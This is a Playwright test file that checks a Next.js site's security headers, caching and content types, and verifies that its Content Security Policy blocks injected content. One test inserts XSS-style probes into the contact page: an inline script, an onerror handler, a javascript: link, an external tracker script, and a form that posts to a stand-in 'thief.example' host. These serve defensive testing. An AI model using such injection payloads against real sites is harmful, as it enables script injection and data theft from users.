import { extname } from "node:path";
import type { Page } from "@playwright/test";
import { cardPath, markdownPath } from "../../lib/addresses.ts";
import { loadPages } from "../../lib/registry.ts";
import { listFiles } from "../../scripts/tools/files.ts";
import { expect, test } from "../support/test.ts";

const pages = await loadPages();

const contentTypes: Readonly<Record<string, RegExp>> = {
  ".txt": /^text\/plain; ?charset=utf-8$/i,
  ".md": /^text\/markdown; ?charset=utf-8$/i,
  ".png": /^image\/png$/,
  ".svg": /^image\/svg\+xml/,
  ".ico": /^image\/(x-icon|vnd\.microsoft\.icon)/,
  ".xml": /^(text|application)\/xml/,
  ".webmanifest": /^application\/manifest\+json/,
};

/** Collects what the page's policy refuses. */
async function watchPolicy(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const refused: string[] = [];
    addEventListener("securitypolicyviolation", (event) =>
      refused.push(`${event.violatedDirective} ${event.blockedURI}`),
    );
    Object.assign(globalThis, { refused });
  });
  return () => page.evaluate(() => (globalThis as unknown as { refused: string[] }).refused);
}

test("navigating between all pages breaks no policy", async ({ page }) => {
  const refused = await watchPolicy(page);
  await page.goto("/");
  await page.waitForLoadState("networkidle");
  for (const { path } of pages.slice(1)) {
    const link = page.locator(`a[href="${path}"]`).first();
    if ((await link.count()) === 0) await page.goto(path);
    else await link.evaluate((element: HTMLElement) => element.click());
    await expect(page).toHaveURL(path);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  }
  expect(await refused()).toEqual([]);
});

test.describe("what a page did not bring itself", () => {
  // The browser says in its console what it refuses.
  test.use({ expectedTroubles: /Content Security Policy|ERR_BLOCKED|blocked|^csp|404/ });

  test("does not run, load, frame or send", async ({ page, baseURL }) => {
    const refused = await watchPolicy(page);
    await page.goto("/contact");
    await page.waitForLoadState("networkidle");
    await page.evaluate(() => {
      const add = (html: string) => {
        const holder = document.createElement("div");
        holder.append(document.createRange().createContextualFragment(html));
        document.body.append(holder);
        return holder;
      };
      add("<script>window.ranInline = true</script>");
      add('<img src="/missing.png" onerror="window.ranHandler = true" alt="">');
      add('<script src="https://tracker.example/a.js"></script>');
      add('<iframe src="https://frame.example/"></iframe>');
      add("<style>body{background:red}</style>");
      add('<a id="bad" href="javascript:window.ranLink=true">x</a>').querySelector("a")?.click();
      const form = add(
        '<form action="https://thief.example/" method="post"><input name="a"></form>',
      ).querySelector("form");
      form?.submit();
    });
    await expect.poll(async () => (await refused()).length).toBeGreaterThanOrEqual(6);
    const ran = await page.evaluate(() => Object.keys(window).filter((name) => name.startsWith("ran")));
    expect(ran).toEqual([]);
    expect(await page.evaluate(() => location.href)).toBe(`${baseURL}/contact`);
    const directives = (await refused()).map((line) => line.split(" ")[0]);
    for (const directive of [
      "script-src-elem",
      "script-src-attr",
      "frame-src",
      "form-action",
      "style-src-elem",
    ]) {
      expect(directives).toContain(directive);
    }
  });
});

test.describe("headers of the engine", () => {
  test("every page answers with the site's headers", async ({ request }) => {
    for (const { path } of pages) {
      const headers = (await request.get(path)).headers();
      expect(headers["strict-transport-security"]).toContain("max-age=63072000");
      expect(headers["x-content-type-options"]).toBe("nosniff");
      expect(headers["x-frame-options"]).toBe("DENY");
      expect(headers["content-security-policy"]).toBe("frame-ancestors 'none'");
      expect(headers["cache-control"]).toBe("public, max-age=0, must-revalidate");
      expect(headers["content-type"]).toContain("text/html");
    }
  });

  test("hashed files last a year, their absence does not", async ({ request }) => {
    const html = await (await request.get("/")).text();
    const script = html.match(/\/_next\/static\/chunks\/[^"]+\.js/)?.[0] ?? "";
    expect((await request.get(script)).headers()["cache-control"]).toBe(
      "public, max-age=31536000, immutable",
    );
    const missing = await request.get("/_next/static/chunks/gone.js");
    expect(missing.status()).toBe(404);
    expect(missing.headers()["cache-control"]).not.toContain("immutable");
  });

  test("files say what they are", async ({ request }) => {
    const expected = machineFiles();
    for (const { path } of pages)
      for (const file of [markdownPath(path), cardPath(path)]) expect(Object.keys(expected)).toContain(file);
    for (const [path, type] of Object.entries(expected)) {
      const response = await request.get(path);
      expect(response.status(), path).toBe(200);
      expect(response.headers()["content-type"], path).toMatch(type);
    }
  });
});

/** What the export has beside pages and the framework's own files: each address with the type it must have. */
function machineFiles(): Record<string, RegExp> {
  const files = listFiles("out").map(({ path }) => `/${path}`);
  const own = files.filter((path) => !/\.html$|^\/_|^\/\.assetsignore$|\/__next\./.test(path));
  return Object.fromEntries(own.map((path) => [path, contentType(path)]));
}

function contentType(path: string): RegExp {
  const ending = extname(path);
  const type = contentTypes[ending];
  if (!type) throw new Error(`${path}: which content type shall a ${ending} file have?`);
  return type;
}
